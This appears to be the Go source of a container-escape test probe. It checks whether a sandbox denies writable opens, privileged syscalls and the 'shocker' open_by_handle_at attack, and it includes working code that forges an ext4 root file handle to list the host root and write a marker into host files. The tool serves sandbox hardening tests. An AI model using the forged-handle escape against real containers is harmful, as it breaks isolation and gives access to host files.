// Command probe is the escape suite's helper for what busybox cannot do: raw syscalls whose
// errno tells a denial (EPERM from a missing capability or from seccomp) from a permission
// that passed. The suite builds it statically (CGO_ENABLED=0) into the workspace; steps run
// /workspace/probe. It only reads, opens without writing, or writes the targets it is given
// (canaries the test made in its own temp dirs). Every line it prints starts with a verdict
// word (denied, ESCAPED, broken, note); the exit status is 1 if anything escaped, 2 if the
// probe could not run, else 0.
//
//	probe openwr PATH...        open(O_WRONLY) without writing: must fail (or the path be absent)
//	probe shocker MNTPATH       open_by_handle_at on MNTPATH's filesystem: must be EPERM
//	probe write TARGET...       write the marker into each host path, directly (a note: the
//	                            test checks the host) and through a shocker handle of
//	                            /etc/resolv.conf's filesystem (must fail)
//	probe syscalls              bpf, perf_event_open, add_key, keyctl, userfaultfd,
//	                            finit_module, ioperm, swapoff, syslog: must be EPERM
package main

import (
	"errors"
	"fmt"
	"os"
	"strings"
	"unsafe"

	"golang.org/x/sys/unix"
)

var escaped, broken bool

func deny(format string, a ...any) { fmt.Printf("denied "+format+"\n", a...) }
func esc(format string, a ...any)  { escaped = true; fmt.Printf("ESCAPED "+format+"\n", a...) }
func brk(format string, a ...any)  { broken = true; fmt.Printf("broken "+format+"\n", a...) }
func note(format string, a ...any) { fmt.Printf("note "+format+"\n", a...) }

func main() {
	if len(os.Args) < 2 {
		brk("usage: probe openwr|shocker|write|syscalls ...")
	} else {
		args := os.Args[2:]
		switch os.Args[1] {
		case "openwr":
			openwr(args)
		case "shocker":
			if len(args) != 1 {
				brk("usage: probe shocker MNTPATH")
			} else {
				shocker(args[0])
			}
		case "write":
			write(args)
		case "syscalls":
			syscalls()
		default:
			brk("unknown probe %q", os.Args[1])
		}
	}
	switch {
	case escaped:
		os.Exit(1)
	case broken:
		os.Exit(2)
	}
}

func openwr(paths []string) {
	if len(paths) == 0 {
		brk("openwr: no paths")
	}
	for _, p := range paths {
		fd, err := unix.Open(p, unix.O_WRONLY|unix.O_CLOEXEC|unix.O_NOCTTY|unix.O_NONBLOCK, 0)
		switch {
		case err == nil:
			unix.Close(fd)
			esc("openwr %s: opened for writing", p)
		case errors.Is(err, unix.ENOENT):
			deny("openwr %s: absent", p)
		default:
			deny("openwr %s: %v", p, err)
		}
	}
}

// rootHandle is a handle to the root directory (inode 2, generation 0) of an ext2/3/4
// filesystem: FILEID_INO32_GEN, the handle "shocker" brute-forced its way from.
func rootHandle() unix.FileHandle {
	b := make([]byte, 8)
	b[0] = 2
	return unix.NewFileHandle(1, b)
}

// openRoot opens the root of mnt's filesystem through open_by_handle_at with a forged handle.
func openRoot(mnt string) (*os.File, error) {
	mfd, err := unix.Open(mnt, unix.O_RDONLY|unix.O_CLOEXEC, 0)
	if err != nil {
		return nil, fmt.Errorf("open %s: %w", mnt, err)
	}
	defer unix.Close(mfd)
	fd, err := unix.OpenByHandleAt(mfd, rootHandle(), unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC)
	if err != nil {
		return nil, err
	}
	return os.NewFile(uintptr(fd), "shocker-root"), nil
}

// permissionPassed: any errno but EPERM (a missing CAP_DAC_READ_SEARCH, or seccomp) means
// the kernel went on to decode the handle.
func permissionPassed(err error) bool { return !errors.Is(err, unix.EPERM) }

func shocker(mnt string) {
	h, mountID, err := unix.NameToHandleAt(unix.AT_FDCWD, mnt, 0)
	if err != nil {
		note("name_to_handle_at %s: %v", mnt, err)
	} else {
		note("name_to_handle_at %s: type %d, %d bytes, mount id %d", mnt, h.Type(), h.Size(), mountID)
		mfd, err := unix.Open(mnt, unix.O_RDONLY|unix.O_CLOEXEC, 0)
		if err != nil {
			brk("open %s: %v", mnt, err)
			return
		}
		fd, err := unix.OpenByHandleAt(mfd, h, unix.O_RDONLY|unix.O_CLOEXEC)
		unix.Close(mfd)
		switch {
		case err == nil:
			unix.Close(fd)
			esc("open_by_handle_at(own handle of %s) succeeded: CAP_DAC_READ_SEARCH", mnt)
		case permissionPassed(err):
			esc("open_by_handle_at(own handle of %s): %v (the permission check passed)", mnt, err)
		default:
			deny("open_by_handle_at(own handle of %s): %v", mnt, err)
		}
	}
	root, err := openRoot(mnt)
	switch {
	case err == nil:
		names, _ := root.Readdirnames(50)
		root.Close()
		esc("open_by_handle_at(forged root handle) lists the filesystem's root: %s", strings.Join(names, " "))
	case permissionPassed(err):
		esc("open_by_handle_at(forged root handle): %v (the permission check passed)", err)
	default:
		deny("open_by_handle_at(forged root handle): %v", err)
	}
}

const marker = "hm-escape-probe-was-here\n"

func write(targets []string) {
	if len(targets) == 0 {
		brk("write: no targets")
	}
	for _, t := range targets {
		if fd, err := unix.Open(t, unix.O_WRONLY|unix.O_TRUNC|unix.O_CLOEXEC, 0); err == nil {
			_, werr := unix.Write(fd, []byte(marker))
			unix.Close(fd)
			// Maybe only a copy-on-write view of it: the test's check of the host decides.
			note("write %s directly: opened (write err %v)", t, werr)
		} else {
			deny("write %s directly: %v", t, err)
		}
	}
	root, err := openRoot("/etc/resolv.conf")
	if err != nil {
		deny("write through a shocker handle: %v", err)
		return
	}
	defer root.Close()
	for _, t := range targets {
		fd, err := unix.Openat(int(root.Fd()), strings.TrimPrefix(t, "/"), unix.O_WRONLY|unix.O_TRUNC|unix.O_CLOEXEC, 0)
		if err != nil {
			deny("write %s through a shocker handle: %v", t, err)
			continue
		}
		_, werr := unix.Write(fd, []byte(marker))
		unix.Close(fd)
		esc("write %s through a shocker handle: opened (write err %v)", t, werr)
	}
}

// verdict classifies a syscall's errno: EPERM/EACCES is a denial (ENOSYS too: not there);
// success or any other errno means the call got past the permission checks.
func verdict(name string, err error) {
	switch {
	case errors.Is(err, unix.EPERM), errors.Is(err, unix.EACCES):
		deny("%s: %v", name, err)
	case errors.Is(err, unix.ENOSYS):
		deny("%s: %v (not available)", name, err)
	case err == nil:
		esc("%s: succeeded", name)
	default:
		esc("%s: %v (the permission check passed)", name, err)
	}
}

func errnoOf(r uintptr, e unix.Errno) error {
	if e != 0 {
		return e
	}
	return nil
}

func syscalls() {
	// bpf(BPF_MAP_CREATE) of a one-entry array map, closed at once.
	attr := struct{ typ, keySize, valueSize, maxEntries, flags uint32 }{2, 4, 4, 1, 0}
	r, _, e := unix.Syscall(unix.SYS_BPF, 0, uintptr(unsafe.Pointer(&attr)), unsafe.Sizeof(attr))
	if e == 0 {
		unix.Close(int(r))
	}
	verdict("bpf(BPF_MAP_CREATE)", errnoOf(r, e))

	// perf_event_open of a software clock on this process, closed at once.
	pa := unix.PerfEventAttr{Type: unix.PERF_TYPE_SOFTWARE, Config: unix.PERF_COUNT_SW_CPU_CLOCK, Size: uint32(unsafe.Sizeof(unix.PerfEventAttr{}))}
	pa.Bits = unix.PerfBitDisabled | unix.PerfBitExcludeKernel | unix.PerfBitExcludeHv
	fd, err := unix.PerfEventOpen(&pa, 0, -1, -1, unix.PERF_FLAG_FD_CLOEXEC)
	if err == nil {
		unix.Close(fd)
	}
	verdict("perf_event_open", err)

	// add_key into the process keyring (gone with the process); keyctl reading an id.
	_, err = unix.AddKey("user", "hm-escape-probe", []byte("x"), unix.KEY_SPEC_PROCESS_KEYRING)
	verdict("add_key", err)
	_, err = unix.KeyctlGetKeyringID(unix.KEY_SPEC_SESSION_KEYRING, false)
	verdict("keyctl(GET_KEYRING_ID)", err)

	// userfaultfd without UFFD_USER_MODE_ONLY needs CAP_SYS_PTRACE (vm.unprivileged_userfaultfd=0).
	r, _, e = unix.Syscall(unix.SYS_USERFAULTFD, unix.O_CLOEXEC, 0, 0)
	if e == 0 {
		unix.Close(int(r))
	}
	verdict("userfaultfd", errnoOf(r, e))

	// finit_module of /dev/null: with CAP_SYS_MODULE the kernel rejects the empty image.
	if nf, err := unix.Open("/dev/null", unix.O_RDONLY|unix.O_CLOEXEC, 0); err == nil {
		verdict("finit_module(/dev/null)", unix.FinitModule(nf, "", 0))
		unix.Close(nf)
	} else {
		brk("open /dev/null: %v", err)
	}

	// ioperm of the POST port, released at once if granted.
	err = unix.Ioperm(0x80, 1, 1)
	if err == nil {
		unix.Ioperm(0x80, 1, 0)
	}
	verdict("ioperm(0x80)", err)

	// swapoff of a path that does not exist: ENOENT only once CAP_SYS_ADMIN passed.
	p, _ := unix.BytePtrFromString("/hm-escape-probe-no-such-swap")
	_, _, e = unix.Syscall(unix.SYS_SWAPOFF, uintptr(unsafe.Pointer(p)), 0, 0)
	verdict("swapoff", errnoOf(0, e))

	// syslog(SYSLOG_ACTION_READ_ALL): the raw kernel log.
	buf := make([]byte, 64)
	_, err = unix.Klogctl(unix.SYSLOG_ACTION_READ_ALL, buf)
	verdict("syslog(READ_ALL)", err)
}
